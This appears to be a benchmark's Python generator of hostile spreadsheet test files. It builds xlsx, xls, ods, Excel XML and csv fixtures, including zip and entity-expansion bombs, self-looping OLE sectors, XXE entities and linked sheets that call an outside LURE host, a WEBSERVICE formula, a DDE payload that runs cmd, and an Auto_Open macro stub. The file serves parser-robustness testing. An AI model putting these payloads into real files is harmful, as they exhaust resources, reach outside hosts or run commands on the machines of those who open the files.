"""Spreadsheets that lie, loop or swell."""

import io
import struct
import zipfile
from random import Random

from benchmarks.kinds.draft import Draft, truth, variant
from benchmarks.kinds.makers.book import one_sheet, openpyxled, xlsxwritten
from benchmarks.kinds.makers.containers import zipped
from benchmarks.kinds.makers.hostile import LAUGHS, LURE, hostile, parts, replaced, swelling
from benchmarks.kinds.makers.ods import TYPE as ODS_TYPE
from benchmarks.kinds.makers.ods import written as ods
from benchmarks.kinds.makers.ole import ole
from benchmarks.kinds.makers.xlsx import of_tables


def _book(dice: Random) -> bytes:
    return openpyxled(one_sheet(of_tables(dice)))


@hostile("xlsx", "xlsx")
def hostile_sheet_of_a_gigabyte(dice: Random) -> bytes:
    sheet = "xl/worksheets/sheet1.xml"
    head = b'<worksheet xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/main"><sheetData>'
    row = b'<row><c t="n"><v>1</v></c><c t="n"><v>2</v></c></row>'
    return swelling(sheet, 1, head, b"</sheetData></worksheet>", row, parts(_book(dice), sheet))


@hostile("xlsx", "xlsx")
def hostile_far_cell(dice: Random) -> bytes:
    """Two cells, the corners of the largest sheet."""
    sheet = (
        '<worksheet xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/main"><dimension ref="A1:XFD1048576"/>'
        '<sheetData><row r="1"><c r="A1"><v>1</v></c></row><row r="1048576"><c r="XFD1048576"><v>2</v></c></row></sheetData>'
        '<mergeCells><mergeCell ref="A1:XFD1048575"/></mergeCells></worksheet>'
    )
    return replaced(_book(dice), "xl/worksheets/sheet1.xml", sheet.encode())


@hostile("xlsx", "xlsx")
def hostile_million_cells(dice: Random) -> bytes:
    row = "".join(f"<c><v>{n}</v></c>" for n in range(100))
    sheet = (
        '<worksheet xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/main"><sheetData>'
        + f"<row>{row}</row>" * 10_000
        + "</sheetData></worksheet>"
    )
    return replaced(_book(dice), "xl/worksheets/sheet1.xml", sheet.encode())


@hostile("xlsx", "xlsx")
def hostile_entities(dice: Random) -> bytes:
    sheet = (
        f'<?xml version="1.0"?>{LAUGHS}<worksheet xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/main">'
        '<sheetData><row><c t="inlineStr"><is><t>&j;</t></is></c></row></sheetData></worksheet>'
    )
    return replaced(_book(dice), "xl/worksheets/sheet1.xml", sheet.encode())


@hostile("xlsx", "xlsx")
def hostile_merges_over_merges(dice: Random) -> bytes:
    merges = "".join(f'<mergeCell ref="A{n}:XFD{n + 1000}"/>' for n in range(1, 3000))
    sheet = (
        '<worksheet xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/main"><sheetData><row r="1"><c r="A1"><v>1</v>'
        f"</c></row></sheetData><mergeCells>{merges}</mergeCells></worksheet>"
    )
    return replaced(_book(dice), "xl/worksheets/sheet1.xml", sheet.encode())


@hostile("xls", "xls")
def hostile_loop_of_sectors(_: Random) -> bytes:
    body = bytearray(ole({"Workbook": b"\x09\x08\x10\0\0\6\5\0" + b"\0" * 9000}))
    at = len(body) - 512  # the last sector is the table: each points at itself
    body[at : at + 512] = struct.pack("<128I", *range(128))
    return bytes(body)


@hostile("xls", "xls")
def hostile_records_that_lie(dice: Random) -> bytes:
    head = b"\x09\x08\x10\0\0\6\5\0" + b"\0" * 12
    rows = b"".join(struct.pack("<HHHHHd", 0x203, 14, 65535, 255, 0, 1.0) for _ in range(3000))
    return ole(
        {
            "Workbook": head
            + rows
            + struct.pack("<HH", 0xFC, 65535)
            + bytes(dice.randrange(256) for _ in range(5000))
        }
    )


@hostile("ods", "ods")
def hostile_repeated_cells(_: Random) -> bytes:
    """One cell, told to stand in every place of the sheet."""
    text = (
        '<?xml version="1.0"?><office:document-content xmlns:office="urn:oasis:names:tc:opendocument:xmlns:office:1.0" '
        'xmlns:table="urn:oasis:names:tc:opendocument:xmlns:table:1.0" xmlns:text="urn:oasis:names:tc:opendocument:xmlns:text:1.0">'
        '<office:body><office:spreadsheet><table:table><table:table-row table:number-rows-repeated="1048576"><table:table-cell '
        'table:number-columns-repeated="16384" office:value-type="float" office:value="1"><text:p>1</text:p></table:table-cell>'
        "</table:table-row></table:table></office:spreadsheet></office:body></office:document-content>"
    )
    return zipped({"mimetype": ODS_TYPE.encode(), "content.xml": text.encode()})


@hostile("ods", "ods")
def hostile_repeated_beyond_all(_: Random) -> bytes:
    text = (
        '<?xml version="1.0"?><office:document-content xmlns:office="urn:oasis:names:tc:opendocument:xmlns:office:1.0" '
        'xmlns:table="urn:oasis:names:tc:opendocument:xmlns:table:1.0" xmlns:text="urn:oasis:names:tc:opendocument:xmlns:text:1.0">'
        '<office:body><office:spreadsheet><table:table><table:table-row><table:table-cell office:value-type="string" '
        'table:number-columns-repeated="4000000000"><text:p>一</text:p></table:table-cell></table:table-row></table:table>'
        "</office:spreadsheet></office:body></office:document-content>"
    )
    return zipped({"mimetype": ODS_TYPE.encode(), "content.xml": text.encode()})


@hostile("excel_xml", "xml")
def hostile_entities_xml(_: Random) -> bytes:
    return (
        f'<?xml version="1.0"?>{LAUGHS}<Workbook xmlns="urn:schemas-microsoft-com:office:spreadsheet"><Worksheet><Table><Row>'
        "<Cell><Data>&j;</Data></Cell></Row></Table></Worksheet></Workbook>"
    ).encode()


@hostile("excel_xml", "xml")
def hostile_far_index(_: Random) -> bytes:
    return (
        b'<?xml version="1.0"?><?mso-application progid="Excel.Sheet"?><Workbook xmlns="urn:schemas-microsoft-com:office:'
        b'spreadsheet" xmlns:ss="urn:schemas-microsoft-com:office:spreadsheet"><Worksheet ss:Name="a"><Table><Row '
        b'ss:Index="2000000000"><Cell ss:Index="2000000000" ss:MergeAcross="2000000000" ss:MergeDown="2000000000">'
        b'<Data ss:Type="Number">1</Data></Cell></Row></Table></Worksheet></Workbook>'
    )


@hostile("excel_xml", "xml")
def hostile_lure(_: Random) -> bytes:
    return (
        f'<?xml version="1.0"?><!DOCTYPE x SYSTEM "{LURE}x.dtd" [<!ENTITY e SYSTEM "{LURE}e">]><Workbook '
        'xmlns="urn:schemas-microsoft-com:office:spreadsheet"><Worksheet><Table><Row><Cell><Data>&e;</Data></Cell></Row></Table>'
        "</Worksheet></Workbook>"
    ).encode()


@hostile("csv", "csv")
def hostile_million_columns(_: Random) -> bytes:
    return "政府信息公开工作年度报告\r\n".encode() + b"1," * 1_500_000 + b"\r\n1"


@hostile("csv", "csv")
def hostile_open_quote(_: Random) -> bytes:
    return '统计指标,单位,统计数\r\n"主动公开'.encode() + b"a,b\r\n" * 2_000_000


@variant("xlsx")
def hostile_links_and_macros(dice: Random) -> Draft:
    """Formulas that ask others, a link to another book, a macro's stream."""
    drawn = of_tables(dice)

    def change(book: object, pages: dict[str, object], places: object) -> None:
        page = next(iter(pages.values()))
        page.write_formula(0, 30, f'=WEBSERVICE("{LURE}w")', None, 1)  # type: ignore[attr-defined]
        page.write_formula(1, 30, f"='{LURE}[b.xlsx]Sheet1'!A1", None, 1)  # type: ignore[attr-defined]
        page.write_formula(2, 30, "=cmd|'/c calc'!A0", None, 1)  # type: ignore[attr-defined]

    body = xlsxwritten(one_sheet(drawn), change=change)
    file = io.BytesIO(body)
    with zipfile.ZipFile(file, "a") as archive:
        archive.writestr("xl/vbaProject.bin", ole({"VBA": b"Sub Auto_Open()"}))
    return Draft(file.getvalue(), "report.xlsm", [truth(drawn)], hostile=True)


@variant("ods")
def hostile_linked_sheet(dice: Random) -> Draft:
    drawn = of_tables(dice)
    body = ods(one_sheet(drawn))
    source = (
        f'<table:table table:name="b"><table:table-source xmlns:xlink="http://www.w3.org/1999/xlink" xlink:href="{LURE}b.ods"/>'
        "</table:table></office:spreadsheet>"
    )
    content = parts(body, "")["content.xml"].replace(b"</office:spreadsheet>", source.encode())
    return Draft(replaced(body, "content.xml", content), "report.ods", [truth(drawn)], hostile=True)
